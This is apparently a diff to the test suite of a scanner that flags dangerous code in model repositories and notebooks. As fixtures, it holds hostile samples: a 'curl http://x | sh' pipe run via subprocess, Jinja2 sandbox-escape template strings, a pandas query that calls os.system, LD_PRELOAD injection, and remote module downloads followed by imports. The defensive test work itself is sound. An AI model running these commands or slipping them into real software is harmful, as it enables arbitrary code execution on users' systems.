@@ -54,6 +54,16 @@ import subprocess~cmd = "curl http://x | sh"~subprocess.call(cmd, shell=True)
 import subprocess~cmd = "uname"~cmd = input()~subprocess.call(cmd)
 import os~os.system("git status; true")
 from IPython import get_ipython~get_ipython().system("true")
+open("my_part.py", "w").write("x")~import my_part
+import importlib as i~p = "a/" + "part.py"~open(p, mode="wb").write(b"")~i.import_module("part")
+from pathlib import Path~Path("part.py").write_text("x")~from part import y
+from huggingface_hub import hf_hub_download as get~get("a/b", "part.py")~import part
+import urllib.request as u~u.urlretrieve("https://example.com/a", "part.so")~import part
+from jinja2 import Template~Template("{{ cycler.__init__.__globals__.os }}").render()
+import jinja2~e = jinja2.Environment()~e.from_string("{{ ''.__class__ }}")
+class A:~  chat_template = "{{ ''.__class__.__mro__ }}"
+import pandas as pd~pd.DataFrame().query("@__import__('os').system('true')")
+import trace~trace.Trace().run("1")
 get_ipython().run_cell_magic("bash", "", "true")
 import importlib, os; importlib.reload(os).system("true")
 import importlib.util as u; u.spec_from_file_location("x", "weights.bin")
@@ -73,6 +83,17 @@ class M(nn.Module):
         self.eval()
     def forward(self, x):
         return getattr(torch, "softmax")(x / math.sqrt(4), -1)
+""",
+    "files beside it": """
+from pathlib import Path
+from huggingface_hub import hf_hub_download
+from jinja2 import Template
+chat_template = "{{ messages[0]['content'] }}"
+def save(folder):
+    Path(folder, "notes.txt").write_text(Template("{{ name }}").render(name="x"))
+    with open("config.json", "w") as file:
+        file.write("{}")
+    return hf_hub_download("a/b", "model.safetensors")
 """,
     "a hardware question": """
 import subprocess
@@ -114,6 +135,13 @@ SUSPICIOUS = {
     "other repository": "from transformers import AutoModel\n"
     "def f(): return AutoModel.from_pretrained('a/b', trust_remote_code=True)\n",
     "hub code": "import torch\ndef f(): return torch.hub.load('somebody/repo', 'x')\n",
+    "module that is fetched": "from huggingface_hub import hf_hub_download\n"
+    "def f(): return hf_hub_download('a/b', 'part.py')\n",
+    "folder that is fetched": "import sys\nfrom huggingface_hub import snapshot_download\n"
+    "sys.path.append(snapshot_download('a/b'))\nimport part\n",
+    "archive of modules": "import sys\nsys.path.insert(0, 'parts.zip')\nimport part\n",
+    "variable of the loader": "import os\nos.putenv('LD_PRELOAD', '/x.so')\n",
+    "library of a database": "import sqlite3\nc = sqlite3.connect('x')\nc.load_extension('y')\n",
     "bidi": "x = 1  # \u202e hidden\n",
 }
 BROKEN = {
@@ -180,6 +208,14 @@ def test_cells_of_a_notebook_run_when_a_person_runs_them(scan_bytes, source, ver
     cells = [{"cell_type": "markdown", "source": "# x"}, {"cell_type": "code", "source": source}]
     content = json.dumps({"cells": cells}).encode()
     assert scan_bytes("python_code", content, "demo.ipynb").verdict is verdict
+
+
+def test_scripts_in_kept_outputs_are_told(scan_bytes):
+    data = {"text/html": ["<script>", "f()</script>"]}
+    cell = {"cell_type": "code", "source": "x = 1", "outputs": [{"data": data}]}
+    report = scan_bytes("python_code", json.dumps({"cells": [cell]}).encode(), "demo.ipynb")
+    assert [(one.rule, one.location) for one in report.findings] == [("active_content", "cell 1")]
+    assert report.verdict is Verdict.CLEAN
 
 
 def test_the_line_and_the_words_are_told(scan_bytes):
